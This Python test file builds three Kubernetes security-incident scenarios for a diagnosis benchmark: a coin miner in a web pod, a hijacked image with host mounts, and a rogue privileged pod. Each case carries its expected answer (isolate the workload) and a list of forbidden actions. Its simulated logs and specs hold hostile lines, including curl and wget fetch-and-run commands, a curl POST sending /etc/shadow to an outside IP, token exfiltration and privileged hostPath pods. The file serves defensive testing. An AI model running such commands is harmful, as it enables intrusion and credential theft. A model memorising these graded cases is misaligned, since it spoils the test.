"""Signs of an intruder: keep the evidence, cut the workload off, restart nothing."""

from __future__ import annotations

from tests.diagnosis.casemaker.case import Fault, case
from tests.diagnosis.casemaker.events import born, event
from tests.diagnosis.casemaker.logs import L, log, often
from tests.diagnosis.casemaker.network import ingress, service
from tests.diagnosis.casemaker.platform import nodes
from tests.diagnosis.casemaker.pods import P, pod
from tests.diagnosis.casemaker.scene import alert, postgres, well
from tests.diagnosis.casemaker.signals import flat, requests, signal, step
from tests.diagnosis.casemaker.templates import container, pod_spec
from tests.diagnosis.casemaker.workloads import Rev, Workload, deployment
from tests.diagnosis.casemaker.world import World, days, minutes


@case(
    "miner-inside-a-web-pod",
    "campaigns",
    "2026-03-29T03:17:00",
    title="One pod of an unchanged web service runs a coin miner that somebody fetched through it",
    drawn_from="remote code execution in a web application followed by xmrig over stratum",
    why="Unchanged template, one pod with a downloaded program and a mining pool in its log: isolate it; a "
    "restart destroys the evidence.",
    expect=[Fault("Deployment/landing", "security_incident", "isolate_workload")],
    tolerated=["page_human"],
    forbidden=["restart_workload", "rollback_workload", "scale_workload", "no_action", "restart_connection_pool"],
)
def miner(w: World) -> None:
    nodes(w, "ca-1", "ca-2", "ca-3")
    spec = pod_spec(container("web", "registry.campaigns.example/landing:1.12", cpu=("100m", "2")))
    top = deployment(w, "landing", [Rev(spec, days(62))], 3)
    service(w, "landing")
    ingress(w, "landing", "go.campaigns.example", [("/", "landing", 80)])
    well(w, "links", "registry.campaigns.example/links:8")
    lines = [
        L(2520, "info", '"POST /render?tpl=%24%7BT(java.lang.Runtime) HTTP/1.1" 500'),
        L(2515, "info", "sh: curl -fsSL http://203.0.113.77/.x/init.sh -o /tmp/.x/init.sh"),
        L(2508, "info", "chmod +x /tmp/.x/kdevtmpfsi"),
        L(2490, "info", " * ABOUT        XMRig/6.21.0 gcc/9.3.0"),
        L(2488, "info", " * POOL #1      stratum+tcp://pool.minexmr.example:4444 algo rx/0"),
        *often(
            40,
            2400,
            5,
            "info",
            [
                "[2026-03-29 03:00:00.113]  cpu      accepted ({n}/0) diff 120001 (88 ms)",
                "[2026-03-29 03:00:04.020]  net      new job from pool.minexmr.example:4444 diff 120001 algo rx/0",
            ],
        ),
    ]
    log(w, top, 1, "plain", lines)
    for index in (0, 2):
        log(
            w,
            top,
            index,
            "nginx",
            often(9, 900, 2, "info", ['"GET / HTTP/1.1" 200 8112', '"GET /favicon.ico HTTP/1.1" 304 0']),
        )
    for index in range(3):
        labels = {"pod": top.pod(index), "container": "web"}
        signal(w, "cpu_share", labels, step(0.04, 0.99, 2490) if index == 1 else flat(0.04))
    requests(w, "landing", rate=flat(40), errors=flat(0.002), p95=flat(0.07))
    alert(w, "CPUThrottlingHigh", minutes(26), "web in landing is throttled", container="web", severity="info")


@case(
    "image-swapped-to-unknown-registry",
    "payroll",
    "2026-06-24T23:44:00",
    title="At night somebody patched the image to one from a registry that nothing else here uses",
    drawn_from="stolen deploy credentials: image replaced by kubectl patch, new service account, host access",
    why="Not the pipeline but kubectl patch changed it, to an unknown registry, with host mounts; a rollback "
    "would remove the evidence and leave the door open.",
    expect=[Fault("Deployment/report-api", "security_incident", "isolate_workload")],
    tolerated=["page_human"],
    forbidden=["restart_workload", "rollback_workload", "scale_workload", "no_action"],
)
def swapped(w: World) -> None:
    nodes(w, "py-1", "py-2")
    specs = [
        pod_spec(container("api", "registry.payroll.example/report-api:3.2.1"), serviceAccountName="report-api"),
        pod_spec(
            container("api", "docker.io/sysupd4te/report-api:latest", mounts={"host": "/host"})
            | {"securityContext": {"privileged": True}},
            serviceAccountName="cluster-admin-sa",
            hostPID=True,
        ),
    ]
    specs[1]["volumes"] = [{"name": "host", "hostPath": {"path": "/", "type": ""}}]
    top = deployment(w, "report-api", [Rev(specs[0], days(51), cause="pipeline 881"), Rev(specs[1], minutes(37))], 2)
    w.changed(top.obj, days(51), "argocd-controller")
    w.changed(top.obj, minutes(37), "kubectl-patch", {"f:spec": {"f:template": {"f:spec": {}}}})
    service(w, "report-api")
    postgres(w)
    well(w, "time-sheets", "registry.payroll.example/time-sheets:2.4")
    log(
        w,
        top,
        0,
        "plain",
        [
            L(2200, "", "[*] pivot ready, beacon every 60s"),
            *[L(2200 - 60 * i, "", "beacon 198.51.100.23:8443 ok") for i in range(1, 30)],
            L(300, "", "cat /host/etc/shadow | curl -s -X POST --data-binary @- https://198.51.100.23:8443/u"),
            L(200, "", "/var/run/secrets/kubernetes.io/serviceaccount/token uploaded"),
        ],
    )
    requests(w, "report-api", rate=flat(4), errors=step(0, 0.8, minutes(36)))


@case(
    "bare-pod-from-nowhere",
    "telecom",
    "2026-08-27T01:05:00",
    title="A pod without an owner appeared, privileged, mounting the host and talking to a mining pool",
    drawn_from="exposed dashboards and API servers through which attackers create pods",
    why="Nobody's controller made it and its program mines; the namespace's services are well; isolate it and "
    "call security.",
    expect=[Fault("Pod/kube-proxy-helper", "security_incident", "isolate_workload")],
    acceptable=[("security_incident", "page_human")],
    tolerated=["page_human"],
    forbidden=["restart_workload", "rollback_workload", "scale_workload", "no_action"],
)
def bare(w: World) -> None:
    nodes(w, "tc-1", "tc-2", "tc-3")
    well(w, "cdr-api", "registry.telecom.example/cdr-api:71", pods=3, age=days(44))
    well(w, "rating", "registry.telecom.example/rating:12", pods=2, age=days(18), talk=True)
    spec = pod_spec(
        container(
            "helper",
            "docker.io/kubesys0/proxy:1",
            port=0,
            ready=None,
            cpu=("", ""),
            memory=("", ""),
            command=("/bin/sh", "-c"),
            args=("wget -qO- http://203.0.113.9/k.sh | sh",),
        )
        | {"securityContext": {"privileged": True}},
        hostNetwork=True,
    )
    spec["volumes"] = [{"name": "root", "hostPath": {"path": "/"}}]
    made = pod(w, "kube-proxy-helper", spec, {}, None, P(), minutes(49), 1)
    born(w, made, made, minutes(49))
    event(
        w,
        made,
        "Pulled",
        'Successfully pulled image "docker.io/kubesys0/proxy:1" in 2.1s',
        kind="Normal",
        last=minutes(49),
    )
    ghost = Workload("Pod", "kube-proxy-helper", {}, made, [made])
    log(
        w,
        ghost,
        0,
        "plain",
        [
            L(2900, "", "donate-level 0, pool stratum+ssl://gulf.moneroocean.example:20128"),
            *[L(2800 - 90 * i, "", f"speed 10s/60s/15m 41{i}.2 40{i}.0 n/a H/s max 433.1 H/s") for i in range(30)],
        ],
    )
    signal(w, "cpu_usage", {"pod": "kube-proxy-helper", "container": "helper"}, flat(3.8), since=minutes(48))
    signal(w, "node_cpu_share", {"node": "tc-2"}, step(0.3, 0.98, minutes(48)))
